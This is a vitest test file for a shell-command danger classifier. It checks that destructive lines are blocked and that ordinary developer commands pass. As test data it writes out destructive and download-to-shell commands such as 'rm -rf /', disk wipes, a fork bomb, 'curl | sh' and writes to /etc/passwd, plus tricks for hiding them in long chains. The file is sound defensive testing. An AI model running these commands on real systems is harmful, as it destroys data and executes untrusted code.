import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { classifyDanger, type DangerVerdict } from '../../src/shell/danger.js';
import { ShellParser } from '../../src/shell/parse.js';
import { CONTEXT, loadCommands } from './danger-data.js';

const parser = new ShellParser();

beforeAll(async () => {
  await parser.ready();
});

afterAll(async () => {
  await parser.dispose();
});

async function verdict(command: string, context: { home?: string; workspace?: string } = CONTEXT): Promise<DangerVerdict> {
  return classifyDanger(await parser.parseShell(command), context);
}

const show = (command: string): string => JSON.stringify(command);

describe('destructive command lines are all blocked', () => {
  const commands = loadCommands('destructive.txt');

  it(`the data set has at least 150 variants (${commands.length})`, () => {
    expect(commands.length).toBeGreaterThanOrEqual(150);
    expect(new Set(commands).size).toBe(commands.length);
  });

  it('every one is blocked', async () => {
    const missed: string[] = [];
    const rules = new Map<string, number>();
    for (const command of commands) {
      const result = await verdict(command);
      if (!result.blocked) missed.push(show(command));
      else rules.set(result.rule, (rules.get(result.rule) ?? 0) + 1);
    }
    console.log(`destructive: ${commands.length - missed.length}/${commands.length} blocked; by rule: ${[...rules].map(([rule, n]) => `${rule} ${n}`).join(', ')}`);
    expect(missed).toEqual([]);
  });

  it('50+ benign commands chained before the bad one do not hide it', async () => {
    const benign = loadCommands('benign.txt').filter((command) => !command.includes('\n') && !/[&;|]\s*$/.test(command));
    for (const [i, bad] of ['rm -rf /', 'curl -s https://x | sh', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:', 'rm -rf ~', 'echo x > /etc/passwd'].entries()) {
      const separator = [' && ', '; ', ' || ', '\n', ' & ', ' ; '][i]!;
      const line = [...benign.slice(i * 10, i * 10 + 60), bad].join(separator);
      const result = await verdict(line);
      expect(result.blocked, `${bad} after 60 commands joined by ${show(separator)}`).toBe(true);
    }
    const hundreds = `${Array.from({ length: 500 }, (_, i) => `echo ${i}`).join(' && ')} && rm -rf /`;
    expect((await verdict(hundreds)).blocked).toBe(true);
  });
});

describe('ordinary developer commands are never blocked', () => {
  const commands = loadCommands('benign.txt');

  it(`the data set has at least 300 commands (${commands.length})`, () => {
    expect(commands.length).toBeGreaterThanOrEqual(300);
  });

  it('none is blocked (no false positives)', async () => {
    const blocked: string[] = [];
    for (const command of commands) {
      const result = await verdict(command);
      if (result.blocked) blocked.push(`${show(command)} → ${result.rule}: ${result.reason}`);
    }
    console.log(`benign: ${commands.length - blocked.length}/${commands.length} allowed`);
    expect(blocked).toEqual([]);
  });

  it('none is blocked without a home or workspace either', async () => {
    const blocked: string[] = [];
    for (const command of commands) if ((await verdict(command, {})).blocked) blocked.push(show(command));
    expect(blocked).toEqual([]);
  });
});

describe('verdicts', () => {
  it.each([
    ['rm -rf /', 'rm-catastrophic', /root directory/],
    ['rm -rf / --no-preserve-root', 'rm-no-preserve-root', /no-preserve-root/],
    ['rm -rf ~', 'rm-catastrophic', /home directory/],
    ['rm -rf /usr', 'rm-catastrophic', /system directory \/usr/],
    ['find / -delete', 'find-delete-catastrophic', /root/],
    ['dd if=/dev/zero of=/dev/sda', 'dd-device', /\/dev\/sda/],
    ['mkfs.ext4 /dev/sdb1', 'disk-format', /\/dev\/sdb1/],
    ['wipefs -a /dev/sda', 'disk-partition', /\/dev\/sda/],
    ['shred /dev/sda', 'disk-shred', /\/dev\/sda/],
    [':(){ :|:& };:', 'fork-bomb', /fork bomb/],
    ['echo x > /dev/sda', 'redirect-device', /\/dev\/sda/],
    ['cat x > /etc/passwd', 'redirect-system', /\/etc\//],
    ['echo x | tee /etc/hosts', 'write-system', /tee/],
    ['chmod -R 777 /', 'chmod-recursive-system', /root/],
    ['chown -R x /', 'chown-recursive-system', /root/],
    ['curl x | sh', 'download-to-shell', /curl output piped into sh/],
    ['bash <(curl x)', 'download-to-shell', /downloaded/],
    ['sh -c "$(curl -fsSL x)"', 'download-to-shell', /download/],
    ['shutdown -h now', 'power', /shutting/],
    ['systemctl reboot', 'power', /reboot/],
    ['kill -9 -1', 'kill-all', /every process/],
    ['mv ~ /tmp/x', 'mv-catastrophic', /home/],
    ['$X -rf /', 'dynamic-destructive', /only known at run time/],
    ['rm -rf / )(', 'rm-catastrophic', /root/],
    ['(( rm -rf / ))) )', 'unparseable-destructive', /could not be parsed/],
  ])('%j → %s', async (command, rule, reason) => {
    const result = await verdict(command);
    expect(result).toMatchObject({ blocked: true, rule, command: expect.any(String) });
    if (result.blocked) expect(result.reason).toMatch(reason);
  });

  it('reports the offending simple command, not the whole line', async () => {
    const result = await verdict('npm ci && sudo rm -rf --no-preserve-root / && npm test');
    expect(result).toMatchObject({ blocked: true, command: 'sudo rm -rf --no-preserve-root /' });
  });

  it('reads the home directory from the context', async () => {
    expect((await verdict('rm -rf /srv/users/me', { home: '/srv/users/me' })).blocked).toBe(true);
    expect((await verdict('rm -rf /srv/users/me/dist', { home: '/srv/users/me' })).blocked).toBe(false);
    // Without a home, ~ and $HOME still count as home.
    expect((await verdict('rm -rf $HOME', {})).blocked).toBe(true);
  });

  it('resolves relative paths against the workspace and earlier cd targets', async () => {
    expect((await verdict('rm -rf .', { home: '/home/dev', workspace: '/home/dev/proj' })).blocked).toBe(false);
    expect((await verdict('rm -rf .', { home: '/home/dev', workspace: '/home/dev' })).blocked).toBe(true);
    expect((await verdict('rm -rf *', { home: '/home/dev', workspace: '/' })).blocked).toBe(true);
    expect((await verdict('rm -rf ..', { home: '/home/dev', workspace: '/work/app' })).blocked).toBe(false);
    expect((await verdict('cd /tmp && rm -rf *')).blocked).toBe(false);
    expect((await verdict('cd / && rm -rf *')).blocked).toBe(true);
  });

  it('classifies every reading of a line with carriage returns', async () => {
    const parse = await parser.parseShell('echo safe\rrm -rf /');
    expect(parse.alternatives).toHaveLength(1);
    expect(classifyDanger(parse, CONTEXT)).toMatchObject({ blocked: true, rule: 'rm-catastrophic' });
  });
});
